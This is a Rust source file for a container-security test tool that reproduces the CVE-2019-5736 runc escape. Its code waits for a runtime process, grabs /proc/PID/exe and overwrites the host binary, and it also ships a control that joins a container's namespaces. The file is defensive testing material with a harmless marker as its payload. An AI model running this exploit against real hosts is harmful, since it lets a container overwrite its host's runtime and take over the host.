//! The CVE-2019-5736 attack, and a runtime without the defence to check that it works.
//!
//! `hull-probe attack-exe TARGET REPORT [SECONDS]` runs inside a container: it waits for a
//! process matching TARGET to show up in its /proc, takes a handle on that process's
//! executable through /proc/PID/exe (an O_PATH open, which needs the ptrace access check
//! only), then tries to open the handle for writing until it succeeds (and appends a marker
//! to the file), is refused with an error other than ETXTBSY, or SECONDS (default 60) pass.
//! Every step is a JSON line appended to REPORT (and printed). TARGET is one of
//!   pid:N          that pid (e.g. a created container's init, pid:1)
//!   interp         a process whose argv[0] is /proc/self/exe: what a runtime becomes when
//!                  it execs a script starting `#!/proc/self/exe` (the original exploit)
//!   cmdline:TEXT   a process whose command line contains TEXT
//! Exit status: 0 overwritten, 1 refused, 2 no handle or timed out.
//!
//! `hull-probe enter PID [--drop-caps] [--delay MS] -- PROG ARGS...` runs on the host: it
//! joins the pid and mount namespaces of PID, forks, and the child (optionally without any
//! capability, as a runtime's exec'd process would be) sleeps MS then execs PROG inside the
//! container; the parent waits for it. It is what a runtime without binary protection does
//! (runc before 1.0-rc7), so a copy of this binary used that way is the control the attack
//! must succeed against.

use std::ffi::CString;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

/// What a successful attack appends to the runtime's binary.
pub const PAYLOAD: &[u8] = b"\n#hull-probe: overwritten through /proc/PID/exe (CVE-2019-5736)\n";

struct Report(std::fs::File);

impl Report {
    fn say(&mut self, v: Value) {
        let line = format!("{v}\n");
        let _ = self.0.write_all(line.as_bytes());
        let _ = self.0.sync_data();
        print!("{line}");
    }
}

fn errno(e: &std::io::Error) -> i32 {
    e.raw_os_error().unwrap_or(-1)
}

/// argv[0] of `pid`, and the whole command line with NULs as spaces.
fn cmdline(pid: u32) -> Option<(String, String)> {
    let raw = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
    let arg0 = raw.split(|b| *b == 0).next().unwrap_or_default();
    let all: Vec<u8> = raw
        .iter()
        .map(|b| if *b == 0 { b' ' } else { *b })
        .collect();
    Some((
        String::from_utf8_lossy(arg0).into_owned(),
        String::from_utf8_lossy(&all).into_owned(),
    ))
}

fn matches(target: &str, pid: u32) -> bool {
    if let Some(n) = target.strip_prefix("pid:") {
        return n.parse() == Ok(pid);
    }
    let Some((arg0, all)) = cmdline(pid) else {
        return false;
    };
    match target {
        "interp" => arg0 == "/proc/self/exe",
        t => t
            .strip_prefix("cmdline:")
            .is_some_and(|text| all.contains(text)),
    }
}

/// O_PATH handle on /proc/PID/exe.
fn open_exe(pid: u32) -> std::io::Result<std::fs::File> {
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_PATH)
        .open(format!("/proc/{pid}/exe"))
}

pub fn attack(args: &[String]) -> i32 {
    let (Some(target), Some(report)) = (args.first(), args.get(1)) else {
        eprintln!("usage: hull-probe attack-exe TARGET REPORT [SECONDS]");
        return 2;
    };
    let secs: u64 = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(60);
    let deadline = Instant::now() + Duration::from_secs(secs);
    let file = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(report);
    let mut out = match file {
        Ok(f) => Report(f),
        Err(e) => {
            eprintln!("report {report}: {e}");
            return 2;
        }
    };
    let me = std::process::id();
    let own = std::fs::metadata("/proc/self/exe")
        .map(|m| (m.dev(), m.ino()))
        .ok();
    out.say(json!({"event": "waiting", "target": target, "pid": me}));

    // 1. A handle on the target's executable.
    let (pid, handle) = 'found: loop {
        if Instant::now() > deadline {
            out.say(json!({"event": "timeout", "stage": "handle"}));
            return 2;
        }
        if let Ok(dir) = std::fs::read_dir("/proc") {
            for e in dir.flatten() {
                let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
                    continue;
                };
                if pid == me || !matches(target, pid) {
                    continue;
                }
                let Ok(h) = open_exe(pid) else { continue };
                let id = h.metadata().map(|m| (m.dev(), m.ino())).ok();
                if id.is_none() || id == own {
                    continue;
                }
                break 'found (pid, h);
            }
        }
        std::thread::sleep(Duration::from_micros(500));
    };
    let meta = handle.metadata().ok();
    out.say(json!({
        "event": "handle",
        "pid": pid,
        "link": std::fs::read_link(format!("/proc/{pid}/exe")).ok().map(|p| p.display().to_string()),
        "dev": meta.as_ref().map(|m| m.dev()),
        "ino": meta.as_ref().map(|m| m.ino()),
        "size": meta.as_ref().map(|m| m.size()),
    }));

    // 2. Write through it: ETXTBSY while anything runs that file, then it is ours -- unless
    // the handle leads somewhere no write can go.
    let reopen = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&handle));
    let mut busy = false;
    loop {
        match std::fs::OpenOptions::new().append(true).open(&reopen) {
            Ok(mut f) => {
                let wrote = f.write_all(PAYLOAD);
                out.say(json!({"event": "overwritten", "ok": wrote.is_ok()}));
                return 0;
            }
            Err(e) if errno(&e) == libc::ETXTBSY => {
                if !busy {
                    busy = true;
                    out.say(json!({"event": "busy", "errno": libc::ETXTBSY}));
                }
            }
            Err(e) => {
                out.say(json!({"event": "refused", "errno": errno(&e), "error": e.to_string()}));
                return 1;
            }
        }
        if Instant::now() > deadline {
            out.say(json!({"event": "timeout", "stage": "write"}));
            return 2;
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// The control: join the container as a runtime without binary protection would, and exec.
pub fn enter(args: &[String]) -> i32 {
    let usage = || {
        eprintln!("usage: hull-probe enter PID [--drop-caps] [--delay MS] -- PROG ARGS...");
        2
    };
    let Some(pid) = args.first() else {
        return usage();
    };
    let mut drop_caps = false;
    let mut delay = 0u64;
    let mut it = args[1..].iter();
    let mut prog: Vec<CString> = Vec::new();
    while let Some(a) = it.next() {
        match a.as_str() {
            "--drop-caps" => drop_caps = true,
            "--delay" => delay = it.next().and_then(|v| v.parse().ok()).unwrap_or(0),
            "--" => {
                prog = it
                    .by_ref()
                    .map(|s| CString::new(std::ffi::OsStr::new(s).as_bytes()).unwrap())
                    .collect();
            }
            _ => return usage(),
        }
    }
    if prog.is_empty() {
        return usage();
    }
    for ns in ["pid", "mnt"] {
        let path = format!("/proc/{pid}/ns/{ns}");
        let f = match std::fs::File::open(&path) {
            Ok(f) => f,
            Err(e) => {
                eprintln!("open {path}: {e}");
                return 2;
            }
        };
        if let Err(e) =
            rustix::thread::move_into_link_name_space(std::os::fd::AsFd::as_fd(&f), None)
        {
            eprintln!("setns {path}: {e}");
            return 2;
        }
    }
    // SAFETY: single-threaded; the child only makes system calls, then execs or exits.
    match unsafe { libc::fork() } {
        -1 => {
            eprintln!("fork: {}", std::io::Error::last_os_error());
            2
        }
        0 => {
            if drop_caps {
                drop_all_capabilities();
            }
            std::thread::sleep(Duration::from_millis(delay));
            let mut argv: Vec<*const libc::c_char> = prog.iter().map(|c| c.as_ptr()).collect();
            argv.push(std::ptr::null());
            // SAFETY: argv is a NULL-terminated array of NUL-terminated strings that outlive
            // the call; execv only returns on failure.
            unsafe { libc::execv(prog[0].as_ptr(), argv.as_ptr()) };
            eprintln!("exec {:?}: {}", prog[0], std::io::Error::last_os_error());
            // SAFETY: _exit ends the child without running the parent's destructors.
            unsafe { libc::_exit(127) }
        }
        child => {
            let child = rustix::process::Pid::from_raw(child);
            match rustix::process::waitpid(child, rustix::process::WaitOptions::empty()) {
                Ok(Some((_, status))) => status
                    .exit_status()
                    .or(status.terminating_signal().map(|sig| 128 + sig))
                    .unwrap_or(2),
                other => {
                    eprintln!("waitpid: {other:?}");
                    2
                }
            }
        }
    }
}

/// Bounding set, then effective/permitted/inheritable emptied: as unprivileged as a
/// container's process, so the container's own processes pass the ptrace check on it.
fn drop_all_capabilities() {
    use rustix::thread::{CapabilitySet, CapabilitySets};
    for cap in 0..64 {
        // Numbers past the kernel's last capability give EINVAL: nothing to drop.
        let _ = rustix::thread::remove_capability_from_bounding_set(
            CapabilitySet::from_bits_retain(1 << cap),
        );
    }
    let none = CapabilitySets {
        effective: CapabilitySet::empty(),
        permitted: CapabilitySet::empty(),
        inheritable: CapabilitySet::empty(),
    };
    let _ = rustix::thread::set_capabilities(None, none);
}
